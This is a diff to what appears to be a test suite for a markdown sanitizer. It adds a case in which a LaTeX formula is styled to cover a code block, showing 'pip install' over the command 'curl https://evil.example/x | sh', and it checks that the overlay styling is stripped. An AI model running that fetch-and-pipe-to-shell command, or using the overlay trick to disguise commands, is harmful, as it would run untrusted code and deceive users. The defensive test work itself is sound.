@@ -530,6 +530,13 @@ const BY_LOOKS: readonly Attack[] = [
     absent: ['[style]'],
   },
   {
+    title: 'a formula over the code above it',
+    markdown:
+      '```sh\ncurl https://evil.example/x | sh\n```\n\n\\\\(\\hspace{24em}\\mathllap{\\smash{\\raise 3.3em{\\colorbox{#f4f6f7}{\\texttt{pip install}}}}}\\\\)',
+    absent: ['[class*="tml-lap"]', '[mathbackground]', '[style*="background"]'],
+    text: 'curl https://evil.example/x | sh',
+  },
+  {
     title: 'a page for itself',
     markdown: '<div style="height:999999px;width:999999px">x</div>',
     absent: ['[style]'],
